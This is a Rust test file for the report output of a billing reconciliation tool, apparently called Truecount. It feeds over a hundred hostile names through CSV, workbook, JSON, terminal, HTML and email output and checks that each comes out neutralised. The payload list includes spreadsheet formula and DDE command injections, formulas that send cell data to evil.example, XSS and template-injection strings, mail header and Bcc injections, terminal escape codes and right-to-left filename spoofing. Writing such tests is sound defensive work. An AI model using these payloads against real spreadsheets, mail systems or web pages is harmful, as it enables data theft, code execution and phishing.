//! Hostile names in every file and in the mail: they are shown, and never act.

#![expect(clippy::unwrap_used, reason = "a test fails by it")]

use std::collections::{BTreeMap, BTreeSet};
use std::io::Cursor;
use std::sync::LazyLock;

use crate::invented::{self, Sample};
use mail_parser::MessageParser;
use truecount_billing::{ProductCode, ReadState};
use truecount_reconciliation::{
    AccountRecord, AgreementRevenue, CameItem, ChangeRecord, ClosingFigures, CountedItem, DoubtRecord, InvoicedWhen,
    ItemFateWord, ItemRecord, ItemsMoved, RevenueCoverage, RowKind, RowRecord, SourceReadWord, WentItem,
    WideningRecord,
};
use truecount_reports::{REPORT_XLSX, ReportMail, email, run_json, sanitize, text_summary};
use truecount_tabular::{Caps, RowReader as _, workbook::Workbook};

/// Each is a name of a client, a vendor account or a product.
const ATTACKS: &[&str] = &[
    // formulas
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open invoice\")",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "   \u{a0}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{202e}=1+1",
    "\u{3000}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " ＝1+1",
    "﹦1",
    "−1",
    "\u{b}=1",
    "\u{c}=1",
    "\"=1+1\"",
    "\",=1+1,\"",
    "a\",\"=1+1",
    "a\r\n=1+1,x",
    "a\n\"=1+1\"",
    "'=1+1",
    "''=1",
    ";=1+1",
    "-12.50 Ltd",
    // HTML
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'><a href='https://evil.example'>pay</a>",
    "<!--",
    "--><b>",
    "</td></tr></table><h1>PAY",
    "<style>*{display:none}</style>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "</title><meta http-equiv=refresh content=0>",
    "<bdi>",
    "{{ 7*7 }}",
    "{% include \"x\" %}",
    "${7*7}",
    "<![CDATA[x]]>",
    "javascript:alert(1)",
    "data:text/html,<b>x",
    // headers and MIME
    "x\r\nBcc: evil@evil.example",
    "x\nSubject: pay",
    "x\r\n\r\n<b>body</b>",
    "\r\n.\r\nQUIT",
    "=?utf-8?B?PGI+?=",
    "=?utf-8?Q?=0D=0ABcc:_x?=",
    "--=_mixed_2026-06-closing-1-7f3c9a.billing.1--",
    "--=_alternative_2026-06-closing-1-7f3c9a.billing.1",
    "Content-Type: text/html",
    "%0d%0aBcc: x",
    // links that a mail program would make
    "https://evil.example/login",
    "www.evil.example",
    "Pay at evil.example now",
    "mail boss@evil.example",
    "http://1.2.3.4/",
    "evil。example",
    "ftp://x.y",
    // screens
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m",
    "\u{8}\u{8}\u{8}GBP 0.00",
    "a\rGBP 0.00",
    "\u{7f}",
    "invoice\u{202e}fdp.exe",
    "\u{2066}x\u{2069}y",
    "\u{200f}x",
    "\u{061c}x",
    "x\u{2028}y\u{2029}z",
    "zero\u{200b}width",
    "\u{ad}soft",
    "\u{e0041}tag",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    "\u{3164}",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "\u{0}",
    "\u{fffe}",
    "﷽",
    "👩‍👩‍👧 Ltd",
    "NULL",
    "<plaintext>",
    "1e309",
    "🏴\u{e0067}\u{e0062}\u{e007f}",
];

/// A month in which every foreign text is the attack.
/// These, and those of a file of JSON text that `TRUECOUNT_MORE_ATTACKS` names.
static ALL_ATTACKS: LazyLock<Vec<String>> = LazyLock::new(|| {
    let more = std::env::var_os("TRUECOUNT_MORE_ATTACKS").map(|path| std::fs::read(path).unwrap());
    let more: Vec<String> = more.map(|json| serde_json::from_slice(&json).unwrap()).unwrap_or_default();
    let own = ATTACKS.iter().map(|&attack| attack.to_owned());
    own.chain(more.into_iter().filter(|attack| !attack.is_empty())).collect()
});

fn attacked(attack: &str) -> Sample {
    let mut sample = invented::month();
    let text = || attack.to_owned();
    for client in &mut sample.clients {
        client.client_name = text();
    }
    for row in sample.rows() {
        if let Ok(code) = ProductCode::new(attack) {
            row.service = code;
        }
        for line in &mut row.lines {
            (line.agreement_name, line.product_name) = (text(), Some(text()));
        }
        for widening in &mut row.widenings {
            if let WideningRecord::AccountFailed { account } | WideningRecord::AccountUndecided { account } = widening {
                account.account_name = text();
            }
        }
        let proposed = row.if_confirmed.iter_mut().flat_map(|then| &mut then.accounts);
        proposed.for_each(|one| one.account.account_name = text());
    }
    let gone = AccountRecord { account_name: text(), ..invented::account("pax8", "gone") };
    let doubts = vec![DoubtRecord::AccountGone { account: gone, since: invented::COUNT_DAY }];
    sample.rows().find(|row| row.kind == RowKind::Underbilled).unwrap().doubts = doubts;
    let joined = sample.rows().find(|row| row.kind == RowKind::Underbilled).unwrap();
    attack_items(joined, attack);
    sample.clients.iter_mut().for_each(|client| client.agreements = vec![agreement(attack)]);
    let portfolio = &mut sample.portfolio;
    portfolio.sources[1].read = SourceReadWord::NotRead;
    let incomplete = portfolio.sources.iter_mut().flat_map(|source| &mut source.incomplete);
    for one in incomplete {
        (one.account.account_name, one.client_name) = (text(), Some(text()));
    }
    portfolio.unmapped.iter_mut().for_each(|account| account.account_name = text());
    for source in &mut sample.sources {
        (source.source_kind, source.state) = (text(), ReadState::Failed(invented::because(&text())));
        let mut receipt = invented::receipt();
        receipt.unknown_words.iter_mut().for_each(|word| (word.field, word.word) = (text(), text()));
        source.receipt = Some(receipt);
    }
    for setup in &mut sample.setup {
        (setup.code, setup.subject, setup.message) = (text(), text(), text());
    }
    for suggestion in &mut sample.suggestions {
        (suggestion.account_name, suggestion.client_name, suggestion.reason) = (text(), Some(text()), text());
    }
    // our own words, which may name a place: tried with everything but links
    if !attack.contains("://") && !attack.contains("evil") {
        (sample.header.run_id, sample.header.archive_place, sample.header.replaces) = (text(), text(), Some(text()));
    }
    sample
}

/// An item that counts for all units and has joined in the month that was invoiced last, and one that went.
fn attack_items(row: &mut RowRecord, attack: &str) {
    let first_seen = Some(jiff::civil::date(2026, 6, 10));
    let item = |item_id: &str| CountedItem {
        source: "ninjaone".parse().unwrap(),
        account_id: "a".parse().unwrap(),
        item_id: item_id.to_owned(),
        name: Some(attack.to_owned()),
    };
    let CountedItem { source, account_id, item_id, name } = item("1");
    row.items = vec![ItemRecord {
        source,
        account_id,
        item_id,
        name,
        kind: Some(attack.to_owned()),
        units: row.counted,
        first_seen,
        fate: ItemFateWord::In,
        reason: None,
        is_unassigned: false,
    }];
    row.items_moved = Some(ItemsMoved {
        since: jiff::civil::date(2026, 5, 29),
        came: vec![CameItem { item: item("1"), first_seen, day: first_seen }],
        went: vec![WentItem { item: item("2"), is_listed: false, reason: None, day: None }],
    });
    let (month, billed) = ("2026-05".parse().unwrap(), Some(row.billed));
    row.last_closings = vec![ClosingFigures { month, counted: None, billed }];
    if let Some(line) = row.lines.first().cloned() {
        let (line_id, agreement_id) = (Some(line.line_id), Some(line.agreement_id));
        let (from, to, monthly_impact) = (row.billed, row.should_bill.unwrap(), row.monthly_impact);
        let invoiced = InvoicedWhen::ThisRun;
        row.changes = vec![ChangeRecord { line_id, agreement_id, from, to, monthly_impact, invoiced }];
    }
}

fn agreement(attack: &str) -> AgreementRevenue {
    AgreementRevenue {
        agreement_id: "A-7".parse().unwrap(),
        agreement_name: attack.to_owned(),
        next_invoice_date: None,
        next_invoice_amount: None,
        cycle_months: Some(1),
        currency: invented::currency("GBP"),
        revenue: RevenueCoverage::default(),
    }
}

fn mail(sample: &Sample) -> Vec<u8> {
    let settings = ReportMail { group: sample.setup[0].code.clone(), ..invented::mail_settings() };
    email(&sample.report(), &settings).unwrap()
}

/// The characters that may not reach a screen. On purpose not the code under test.
fn acts(text: &str) -> Option<char> {
    let bad = |c: &char| {
        let code = u32::from(*c);
        code < 0x20
            || (0x7f..0xa0).contains(&code)
            || [0x61c, 0x200b, 0x200e, 0x200f, 0xfeff].contains(&code)
            || (0x2028..=0x202e).contains(&code)
            || (0x2066..=0x2069).contains(&code)
            || (0xe0000..0xe1000).contains(&code)
    };
    text.chars().find(bad)
}

#[test]
fn the_attacks_are_distinct() {
    assert!(ATTACKS.len() >= 100, "{}", ATTACKS.len());
    assert_eq!(ATTACKS.iter().collect::<BTreeSet<_>>().len(), ATTACKS.len());
}

#[test]
fn no_cell_is_a_formula_or_acts() {
    const NUMBERS: [&str; 6] =
        ["variance", "to_correct", "left_alone", "unit_price", "monthly_impact", "invoice_amount"];
    let mut prefixed = 0;
    for attack in ALL_ATTACKS.iter() {
        let sample = attacked(attack);
        let files = sample.files();
        for file in files.iter().filter(|file| file.name.ends_with(".csv")) {
            let mut reader = csv::Reader::from_reader(&file.bytes[3..]);
            let columns = reader.headers().unwrap().clone();
            for record in reader.records() {
                for (column, cell) in columns.iter().zip(&record.unwrap()) {
                    assert_eq!(acts(cell), None, "{attack:?} in {column}: {cell:?}");
                    let first = cell.trim_start().chars().next();
                    let is_formula = first.is_some_and(|first| "=+-@＝＋－＠﹦−".contains(first));
                    assert!(!is_formula || NUMBERS.contains(&column), "{attack:?} in {column}: {cell:?}");
                    prefixed += usize::from(cell.starts_with('\''));
                }
            }
        }
    }
    assert!(prefixed > 1000, "only {prefixed} cells were made text");
}

/// What is a number, a day or text is decided by the column, never by the text.
#[test]
fn no_cell_of_the_workbook_acts() {
    let mut cells = 0;
    for attack in ALL_ATTACKS.iter().step_by(7) {
        let book = attacked(attack).file(REPORT_XLSX);
        let book = Workbook::open(Cursor::new(&book[..]), &Caps::default()).unwrap();
        for name in ["Change the agreement", "Coverage by agreement", "All comparisons", "Items"] {
            let mut rows = book.sheet(name).unwrap();
            while let Some(row) = rows.next_row().unwrap() {
                for cell in row.cells() {
                    assert_eq!(acts(cell.text), None, "{attack:?} in {name}: {:?}", cell.text);
                    cells += 1;
                }
            }
        }
    }
    assert!(cells > 10_000, "{cells}");
    let changes = String::from_utf8(attacked("plain").file("changes.csv")).unwrap();
    assert!(changes.contains("plain from 10 June 2026: "), "{changes}");
}

#[test]
fn names_stand_in_what_would_be_if_they_were_confirmed() {
    let bytes = attacked("=1+1\u{202e}").file("exceptions.csv");
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let at = reader.headers().unwrap().iter().position(|column| column == "if_confirmed").unwrap();
    let cells: BTreeSet<String> = reader.records().map(|record| record.unwrap()[at].to_owned()).collect();
    let expected = [
        "",
        "if `=1+1[U+202E]` in pax8 (87 %) is confirmed: 14 counted, agrees",
        "if confirmed for `=1+1[U+202E]` (87 %): settles 1 comparison (agrees); shows 1 new comparison (used but \
         not on the agreement); GBP 246.40 to add a month",
    ];
    assert_eq!(cells.iter().map(String::as_str).collect::<Vec<_>>(), expected);
}

#[test]
fn numbers_stay_numbers() {
    let bytes = invented::month().file("exceptions.csv");
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let impact = reader.headers().unwrap().iter().position(|column| column == "monthly_impact").unwrap();
    let negative = reader.records().filter(|record| record.as_ref().unwrap()[impact].starts_with('-')).count();
    assert_eq!(negative, 3);
}

#[test]
fn json_keeps_the_text_and_escapes_what_acts() {
    for attack in ALL_ATTACKS.iter() {
        let run = run_json(&attacked(attack).report()).unwrap();
        let text = String::from_utf8(run.bytes).unwrap();
        assert_eq!(acts(&text.replace('\n', "")), None, "{attack:?}");
        let read: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(read["portfolio"]["unmapped"][0]["account_name"], *attack);
    }
}

#[test]
fn nothing_acts_on_a_terminal() {
    for attack in ALL_ATTACKS.iter() {
        assert_eq!(acts(&text_summary(&attacked(attack).report()).replace('\n', "")), None, "{attack:?}");
    }
}

#[test]
fn the_mail_gains_no_header_part_or_tag() {
    let usual = mail(&attacked("Acme Ltd"));
    let usual = MessageParser::default().parse(&usual).unwrap();
    let expected_tags = tags(&usual.body_html(0).unwrap());
    for attack in ALL_ATTACKS.iter() {
        let raw = mail(&attacked(attack));
        let message = MessageParser::default().parse(&raw).unwrap();
        let headers: Vec<_> = message.headers().iter().map(|header| header.name()).collect();
        let expected = [
            "Date",
            "Message-ID",
            "From",
            "To",
            "Subject",
            "MIME-Version",
            "Auto-Submitted",
            "X-Auto-Response-Suppress",
            "Content-Type",
        ];
        assert_eq!(headers, expected, "{attack:?}");
        let parts = (message.parts.len(), message.text_body.len(), message.html_body.len(), message.attachment_count());
        assert_eq!(parts, (6, 1, 1, 2), "{attack:?}");
        let subject = message.subject().unwrap();
        assert!(
            subject.starts_with("Truecount June 2026: ") && subject.contains(" compared; GBP 2,432.65"),
            "{subject}"
        );
        let id = message.message_id().unwrap();
        assert!(id.ends_with(".1@hollybank.example") && id.is_ascii() && !id.contains([' ', '<', '>']), "{id}");

        let html = message.body_html(0).unwrap();
        assert_eq!(tags(&html), expected_tags, "{attack:?}");
        assert_eq!(acts(&html.replace("\r\n", "").replace('\n', "")), None, "{attack:?}");
        let text = message.body_text(0).unwrap();
        assert_eq!(acts(&text.replace("\r\n", "").replace('\n', "")), None, "{attack:?}");
        for body in [&html, &text].map(|body| body.replace("s3://hollybank", "")) {
            for link in ["://", "www.e", "evil.e", "@evil", "evil。e"] {
                assert!(!body.contains(link), "{attack:?} leaves {link}");
            }
        }
    }
}

#[test]
fn the_page_gains_no_tag_and_no_character_that_acts() {
    let usual = attacked("Acme Ltd").page();
    let (script, tags_of_usual) = (usual.split_once("<script>").unwrap().1, tags(&usual));
    for attack in ALL_ATTACKS.iter() {
        let page = attacked(attack).page();
        assert_eq!(tags(&page), tags_of_usual, "{attack:?}");
        assert_eq!(acts(&page.replace('\n', "")), None, "{attack:?}");
        assert!(page.ends_with(script), "{attack:?}");
    }
}

/// Every tag with its attributes' names, and how often each is there.
fn tags(html: &str) -> BTreeMap<String, usize> {
    let mut tags = BTreeMap::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let end = start + rest[start..].find('>').unwrap();
        let mut names: Vec<_> = rest[start + 1..end].split('"').step_by(2).collect();
        names.retain(|name| !name.is_empty());
        *tags.entry(names.concat().split_whitespace().collect::<Vec<_>>().join(" ")).or_default() += 1;
        rest = &rest[end..];
    }
    tags
}

#[test]
fn visible_cell_and_unlinked_case_by_case() {
    let table = [
        ("Acme Ltd", "Acme Ltd", "Acme Ltd", "Acme Ltd"),
        ("=1", "=1", "'=1", "=1"),
        (" ＝1", " ＝1", "' ＝1", " ＝1"),
        ("\t=1", "[U+0009]=1", "'[U+0009]=1", "[U+0009]=1"),
        ("\tx", "[U+0009]x", "'[U+0009]x", "[U+0009]x"),
        ("a\r\nb", "a[U+000D][U+000A]b", "a[U+000D][U+000A]b", "a[U+000D][U+000A]b"),
        ("a\u{202e}b", "a[U+202E]b", "a[U+202E]b", "a[U+202E]b"),
        ("\u{e0041}", "[U+E0041]", "[U+E0041]", "[U+E0041]"),
        ("می\u{200c}خواهم", "می\u{200c}خواهم", "می\u{200c}خواهم", "می\u{200c}خواهم"),
        ("St. Mary 12.50", "St. Mary 12.50", "St. Mary 12.50", "St. Mary 12.50"),
        ("https://a.b", "https://a.b", "https://a.b", "https:\u{200c}//a.\u{200c}b"),
        ("x@y.example", "x@y.example", "x@y.example", "x@\u{200c}y.\u{200c}example"),
        ("1-2", "1-2", "1-2", "1-2"),
        ("", "", "", ""),
    ];
    for (text, visible, cell, unlinked) in table {
        assert_eq!(sanitize::visible(text), visible);
        assert_eq!(sanitize::cell(text), cell);
        assert_eq!(sanitize::unlinked(text), unlinked);
    }
    assert_eq!(sanitize::shortened("abcdef", 6), "abcdef");
    assert_eq!(sanitize::shortened("abc def", 5), "abc…");
    assert_eq!(sanitize::shortened("ÄÖÜäöü", 4), "ÄÖÜ…");
}

proptest::proptest! {
    #[test]
    fn any_text_is_made_harmless(text: String) {
        let cell = sanitize::cell(&text).into_owned();
        proptest::prop_assert_eq!(acts(&cell), None);
        let first = cell.trim_start().chars().next();
        proptest::prop_assert!(!first.is_some_and(|first| "=+-@＝＋－＠".contains(first)));
        let shown = sanitize::visible(&text);
        proptest::prop_assert_eq!(sanitize::visible(&shown), &*shown);
        proptest::prop_assert_eq!(sanitize::unlinked(&text).replace('\u{200c}', ""), sanitize::visible(&text).replace('\u{200c}', ""));
    }
}
